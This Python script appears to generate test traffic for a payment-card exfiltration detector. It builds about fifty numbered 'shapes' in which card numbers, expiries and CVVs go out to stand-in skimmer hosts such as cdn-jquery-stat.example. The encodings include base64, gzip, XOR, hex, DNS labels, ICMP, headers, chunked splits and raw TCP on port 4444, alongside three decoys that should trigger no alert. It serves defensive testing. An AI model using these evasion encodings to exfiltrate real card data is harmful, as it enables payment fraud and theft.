"""The published list of wire shapes that any card detector is asked for, those that need no
parser of their own (HTTP/2, WebSocket and mail are left out), and three that stay silent.

    python3 shapes.py SEED [-o FOLDER] [--forge PROGRAM]
    python3 shapes.py --list

Field names, brands, holders and the places of cuts come from the seed."""
import argparse
import base64
import gzip
import os
import random
import sys

import carriers
import forms
import issuers
from carriers import Exchange, Place
from wire import Writer

DEEP, DEEPER, DEEPEST = 90 << 10, 150 << 10, 1536 << 10
LEFT_OUT = {"35": "HTTP/2, DATA frame", "36": "WebSocket, masked text frame",
            "41": "mail, text part in base64", "46": "HTTP/2 DATA, segment border inside"}


class Case:
    """One shape with its card; made by the functions below."""

    def __init__(self, rng, kind=None):
        self.rng = rng
        self.kind = kind or rng.choice(("visa", "mastercard", "mastercard2", "jcb", "discover",
                                        "amex", "diners", "unionpay"))
        self.card = forms.holder_of(rng, self.kind, issuers.draw_card(rng, self.kind))
        self.keys = rng.choice(forms.KEYS)
        self.place = Place((), "form", "start", rng.choice(("cdn-jquery-stat.example",
                                                            "img.pixel-count.example")))

    def record(self, number=None):
        keys, card = self.keys, self.card
        pairs = [(keys[3], card.name), (keys[0], number or card.digits.encode()),
                 (keys[1], card.exp), (keys[2], card.cvv)]
        return forms.as_form(pairs)

    def grouped(self, separator):
        return separator.join(issuers.groups_of(self.card.digits)).encode()

    def short(self):
        month, year = self.card.exp.split("/")
        return f"{self.card.digits}|{month}{year}|{self.card.cvv}".encode()

    def post(self, body, kind="application/x-www-form-urlencoded", headers=()):
        return carriers.post(self.place, kind, body, headers)

    def field(self, data):
        return self.post(b"d=" + carriers.quoted(data))

    def get(self, target, *headers):
        return carriers.http(carriers.request("GET", target, self.place, headers))

    def deep(self, size):
        return self.post(carriers.filler(self.rng, size) + b"\n" + self.record(), "text/plain")

    def inside(self, exchanges):
        """A cut within the number."""
        at = exchanges[0].turns[0][1].index(self.card.digits.encode())
        return f"cut {at + self.rng.randint(1, len(self.card.digits) - 1)}"


def chunked(case):
    body = case.record()
    at = body.index(case.card.digits.encode()) + case.rng.randint(1, 12)
    head = carriers.request("POST", "/collect", case.place, [
        "Content-Type: application/x-www-form-urlencoded", "Transfer-Encoding: chunked"])
    parts = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (body[:at], body[at:], b""))
    return carriers.http(head + parts)


def key_xor(case):
    key = case.rng.randint(1, 255)
    return case.post(bytes(byte ^ key for byte in case.record()), "application/octet-stream")


def json_grouped(case):
    return case.post(forms.as_json([(case.keys[0], case.grouped(" ")), (case.keys[1],
                                                                       case.card.exp)]),
                     "application/json")


def fourth_field(case):
    pairs = [("act", "save"), ("page", "cart"), ("lang", "ja"),
             (f"x{case.rng.randint(10, 99)}", base64.b64encode(case.record()))]
    return case.post(b"&".join(key.encode() + b"=" + carriers.quoted(value)
                               if isinstance(value, bytes) else f"{key}={value}".encode()
                               for key, value in pairs))


def other_port(case):
    return [case.post(case.record())[0]._replace(port=8443)]


def raw(case):
    return [Exchange("tcp", 4444, True, [(True, case.short() + b"\n"), (False, b"ok\n")])]


def label(data):
    return lambda case: carriers.dns_label(case.rng, case.place, data(case))


def wrong(case):
    digits = case.card.digits
    return digits[:-1] + str((int(digits[-1]) + case.rng.randint(1, 9)) % 10)


def json_base64(case):
    return case.post(forms.as_json([("s", "3"), ("data", base64.b64encode(case.record()))]),
                     "application/json")


def full_width(case):
    return case.post(case.record(forms.careful(case.rng, forms.wide(case.card.digits, "utf-8"))))


def b64(case):
    return base64.b64encode(case.record())


# number, what, message, stress ("in": a border inside the number), and if need be a kind of
# card, and whether it must be silent
SHAPES = [
    ("01", "GET /c.gif?d=PAN|MMYY|CVV", lambda c: c.get(f"/c.gif?d={c.short().decode()}"), ""),
    ("02", "form, plain", lambda c: c.post(c.record()), ""),
    ("03", "form, groups joined by +", lambda c: c.post(c.record(c.grouped("+"))), ""),
    ("04", "form, groups joined by %20", lambda c: c.post(c.record(c.grouped("%20"))), ""),
    ("05", "form, groups joined by -", lambda c: c.post(c.record(c.grouped("-"))), ""),
    ("06", "JSON, groups with blanks", json_grouped, ""),
    ("07", "text/plain, all of it base64", lambda c: c.post(b64(c), "text/plain"), ""),
    ("08", "form d=base64", lambda c: c.field(b64(c)), ""),
    ("09", "form, base64 in the fourth field", fourth_field, ""),
    ("10", "GET /i.png?x=base64url", lambda c: c.get(
        "/i.png?x=" + base64.urlsafe_b64encode(c.record()).decode().rstrip("=")), ""),
    ("11", "form d=base64(base64)", lambda c: c.field(base64.b64encode(b64(c))), ""),
    ("12", "form d=hex", lambda c: c.field(c.record().hex().encode()), ""),
    ("13", "form, every byte %XX", lambda c: c.post(
        "".join(f"%{byte:02X}" for byte in c.record()).encode()), ""),
    ("14", "gzip body, Content-Encoding", lambda c: c.post(
        gzip.compress(c.record(), mtime=0), headers=["Content-Encoding: gzip"]), ""),
    ("15", "gzip body, octet-stream", lambda c: c.post(
        gzip.compress(c.record(), mtime=0), "application/octet-stream"), ""),
    ("16", "form d=base64(gzip)", lambda c: c.field(
        base64.b64encode(gzip.compress(c.record(), mtime=0))), ""),
    ("17", "UTF-16LE", lambda c: c.post(c.record().decode().encode("utf-16-le"), "text/plain"),
     ""),
    ("18", "form, full-width digits", full_width, ""),
    ("19", "form d=reversed record", lambda c: c.field(c.record()[::-1]), ""),
    ("20", "octet-stream, XOR of one byte", key_xor, ""),
    ("21", "form d=character codes", lambda c: c.field(
        ",".join(str(byte) for byte in c.record()).encode()), ""),
    ("22", "Cookie: t=PAN", lambda c: c.get("/px.gif", f"Cookie: t={c.card.digits}"), ""),
    ("23", "X-Data: PAN", lambda c: c.get("/px.gif", f"X-Data: {c.card.digits}"), ""),
    ("24", "multipart, behind JPEG magic", lambda c: carriers.multipart_file(
        c.rng, c.place, c.record()), ""),
    ("25", "chunked, border inside the number", chunked, ""),
    ("26", "after 90 KB", lambda c: c.deep(DEEP), ""),
    ("27", "after 150 KB", lambda c: c.deep(DEEPER), ""),
    ("28", "after 1.5 MB", lambda c: c.deep(DEEPEST), ""),
    ("29", "segment border inside", lambda c: c.post(c.record()), "in"),
    ("30", "out of order, border inside", lambda c: c.post(c.record()), "in reversed"),
    ("31", "no handshake seen", lambda c: c.post(c.record()), "midstream"),
    ("32", "one direction seen", lambda c: c.post(c.record()), "drop-server"),
    ("33", "clear HTTP on port 8443", other_port, ""),
    ("34", "raw TCP on port 4444", raw, ""),
    ("37", "DNS, number as a label", label(lambda c: c.card.digits.encode()), ""),
    ("38", "DNS, hex as a label", label(lambda c: c.card.digits.encode().hex().encode()), ""),
    ("39", "DNS, base32 as a label", label(
        lambda c: base64.b32encode(c.card.digits.encode()).rstrip(b"=")), ""),
    ("40", "ICMP echo", lambda c: carriers.icmp(c.rng, c.place, c.card.digits.encode()), ""),
    ("42", "after 1.5 MB, border inside", lambda c: c.deep(DEEPEST), "in"),
    ("43", "after 150 KB, border inside", lambda c: c.deep(DEEPER), "in"),
    ("44", "one direction, border inside", lambda c: c.post(c.record()), "drop-server in"),
    ("45", "no handshake, border inside", lambda c: c.post(c.record()), "midstream in"),
    ("47", "JSON, data=base64", json_base64, ""),
    ("48", "form, Amex 4-6-5", lambda c: c.post(c.record(c.grouped("+"))), "", "amex"),
    ("49", "form, UnionPay of 19", lambda c: c.post(c.record()), "", "unionpay19"),
    ("50", "silent: check digit wrong", lambda c: c.post(c.record(wrong(c).encode())), "",
     "visa", True),
    ("51", "silent: fraction", lambda c: c.post(
        b"w=0." + c.card.digits.encode() + b"&h=3"), "", "visa", True),
    ("52", "silent: inside 40 digits", lambda c: c.post(
        b"ref=" + issuers.draw_digits(c.rng, 12).encode() + c.card.digits.encode()
        + issuers.draw_digits(c.rng, 12).encode()), "", "visa", True),
]


# What an alert of the shape names, the outermost first; what a form or JSON brings may stand
# in front.
LAYERS = {"07": ["base64"], "08": ["base64"], "09": ["base64"], "10": ["base64url"],
          "11": ["base64", "base64"], "12": ["hex"], "13": ["percent"], "14": ["gzip"],
          "15": ["gzip"], "16": ["base64", "gzip"], "17": ["utf-16le"], "19": ["reversal"],
          "20": ["xor"], "21": ["charcodes"], "38": ["hex"], "39": ["base32"],
          "47": ["base64"]}


def generate(seed):
    """Yields (exchanges, truth, stress)."""
    for number, what, make, stress, *more in SHAPES:
        rng = random.Random(f"shapes {seed} {number}")
        case = Case(rng, more[0] if more else None)
        exchanges = make(case)
        words = " ".join(case.inside(exchanges) if word == "in" else word
                         for word in stress.split())
        yield exchanges, {"shape": number, "what": what, "seed": str(seed), "kind": case.kind,
                          "card": case.card.digits, "silent": len(more) > 1,
                          "layers": LAYERS.get(number, []), "optional": [],
                          "own": ["form", "json", "multipart", "image", "chunked"],
                          "inner": ["form"]}, words


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("seed", nargs="*", help="one or more, into one capture")
    parser.add_argument("-o", "--out", default=".")
    parser.add_argument("--forge")
    parser.add_argument("--list", action="store_true")
    options = parser.parse_args()
    if options.list:
        for number, what, *_ in SHAPES:
            print(number, what)
        for number, what in LEFT_OUT.items():
            print(number, what, "(left out: needs a parser of its own)")
        return 0
    if not options.seed:
        parser.error("SEED or --list")
    writer = Writer(os.path.join(options.out, "shapes"), 400)
    for seed in options.seed:
        for made in generate(seed):
            writer.add(*made)
    writer.close(options.forge, options.seed[0])
    return 0


if __name__ == "__main__":
    sys.exit(main())
